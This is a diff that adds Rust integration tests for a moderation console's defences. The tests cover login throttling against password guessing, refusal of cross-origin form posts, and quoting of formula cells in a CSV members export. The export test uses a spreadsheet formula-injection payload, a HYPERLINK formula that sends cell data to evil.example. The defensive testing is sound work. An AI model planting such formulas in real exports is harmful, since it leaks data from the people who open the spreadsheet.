@@ -535,3 +535,160 @@ async fn in_a_real_browser_a_moderator_logs_in_sees_why_a_post_is_held_and_appro
             .expect("store")
     );
 }
+
+/// A login as `name` with `password` from the loopback address `source`: the status.
+async fn login_from(jar: &Path, base: &str, source: &str, (name, password): (&str, &str)) -> u16 {
+    let (name, password) = (format!("name={name}"), format!("password={password}"));
+    let args = [
+        "--interface",
+        source,
+        "--data-urlencode",
+        &name,
+        "--data-urlencode",
+        &password,
+    ];
+    curl(jar, &args, &format!("{base}/console/login")).await.0
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn an_address_guessing_passwords_must_wait_and_other_addresses_still_log_in() {
+    let (_w, _held, base) = console_world("Throttled guesses").await;
+    let jars = tempfile::tempdir().expect("jars");
+    let jar = |n: &str| jars.path().join(n);
+
+    // Four loops guessing from one address at once (a global gate of two checks answered
+    // everyone 503 while they ran): a moderator at another address still gets in.
+    let hammer: Vec<_> = (0..4)
+        .map(|loop_n| {
+            let (base, jar) = (base.clone(), jar(&format!("h{loop_n}")));
+            tokio::spawn(async move {
+                let mut codes = Vec::new();
+                for i in 0..4 {
+                    let guess = (format!("guess{loop_n}{i}"), "wrong password 1".to_string());
+                    codes.push(login_from(&jar, &base, "127.0.25.1", (&guess.0, &guess.1)).await);
+                }
+                codes
+            })
+        })
+        .collect();
+    let moderator = login_from(&jar("m"), &base, "127.0.25.2", ("mod", PASSWORD)).await;
+    assert_eq!(moderator, 303, "the moderator logs in during the flood");
+    let mut codes = Vec::new();
+    for loop_codes in hammer {
+        codes.extend(loop_codes.await.expect("loop"));
+    }
+    assert!(
+        codes.iter().all(|c| [401, 429].contains(c)),
+        "the guesses are refused, or told to wait: {codes:?}"
+    );
+    // Guessing on from that address, one at a time: after 5 wrong passwords in all it must
+    // wait, and then its every try is refused unchecked, the right password too.
+    let mut last = 0;
+    for i in 0..6 {
+        last = login_from(
+            &jar("h0"),
+            &base,
+            "127.0.25.1",
+            (&format!("more{i}"), "wrong"),
+        )
+        .await;
+        if last == 429 {
+            break;
+        }
+        codes.push(last);
+    }
+    assert_eq!(last, 429, "{codes:?}");
+    assert!(
+        codes.iter().filter(|c| **c == 401).count() <= 5,
+        "no more than 5 passwords checked for the address: {codes:?}"
+    );
+    let (code, waited, _) = curl(
+        &jar("h0"),
+        &[
+            "--interface",
+            "127.0.25.1",
+            "-d",
+            &format!("name=mod&password={PASSWORD}"),
+        ],
+        &format!("{base}/console/login"),
+    )
+    .await;
+    assert_eq!(code, 429, "{waited}");
+    assert!(waited.contains("Too many failed logins"), "{waited}");
+
+    // Guesses at one name from many addresses: that name must wait, from anywhere; another
+    // name does not.
+    for i in 1..=10 {
+        let from = format!("127.0.26.{i}");
+        let code = login_from(&jar("o"), &base, &from, ("other", "wrong password 2")).await;
+        assert_eq!(code, 401, "guess {i}");
+    }
+    let code = login_from(&jar("o"), &base, "127.0.26.50", ("other", PASSWORD)).await;
+    assert_eq!(code, 429, "the name guessed at waits");
+    let code = login_from(&jar("m2"), &base, "127.0.25.3", ("mod", PASSWORD)).await;
+    assert_eq!(code, 303, "another name logs in");
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_form_from_the_same_host_under_another_scheme_is_refused() {
+    let (_w, _held, base) = console_world("Origins").await;
+    let jars = tempfile::tempdir().expect("jars");
+    let jar = jars.path().join("j");
+    let host = base.trim_start_matches("http://");
+    let form = ["-d", "name=mod&password=wrong+password+3"];
+    // The listener speaks plain HTTP (no console_secure_cookie): a page served over HTTPS
+    // under the same name is another origin.
+    let https = format!("Origin: https://{host}");
+    let args = [form[0], form[1], "-H", https.as_str()];
+    let (code, body, _) = curl(&jar, &args, &format!("{base}/console/login")).await;
+    assert_eq!(code, 403, "{body}");
+    let http = format!("Origin: http://{host}");
+    let args = [form[0], form[1], "-H", http.as_str()];
+    let (code, body, _) = curl(&jar, &args, &format!("{base}/console/login")).await;
+    assert_eq!(
+        code, 401,
+        "the same origin reaches the password check: {body}"
+    );
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_members_export_gives_formula_cells_as_text() {
+    let (_w, _held, base) = console_world("Export").await;
+    let jars = tempfile::tempdir().expect("jars");
+    let jar = jars.path().join("j");
+    assert_eq!(
+        login_from(&jar, &base, "127.0.0.1", ("mod", PASSWORD)).await,
+        303
+    );
+    let (_, page, _) = curl(&jar, &[], &format!("{base}/console/members?list={LIST}")).await;
+    let token = csrf(&page);
+    // A member who names themselves a formula: a spreadsheet opening the export would run it.
+    let name = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
+    let add = [
+        "--data-urlencode",
+        "action=add",
+        "--data-urlencode",
+        &format!("list={LIST}"),
+        "--data-urlencode",
+        "address=formula@club.test",
+        "--data-urlencode",
+        &format!("name={name}"),
+        "--data-urlencode",
+        &format!("csrf={token}"),
+    ];
+    let (code, body, _) = curl(&jar, &add, &format!("{base}/console/members")).await;
+    assert_eq!(code, 303, "{body}");
+    let url = format!("{base}/console/members/export?list={LIST}");
+    let (code, csv, _) = curl(&jar, &[], &url).await;
+    assert_eq!(code, 200, "{csv}");
+    let line = csv
+        .lines()
+        .find(|l| l.contains("formula@club.test"))
+        .unwrap_or_else(|| panic!("the member is exported: {csv}"));
+    assert!(
+        line.starts_with(
+            "\"formula@club.test\",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\","
+        ),
+        "the cell is quoted text behind a ': {line}"
+    );
+}
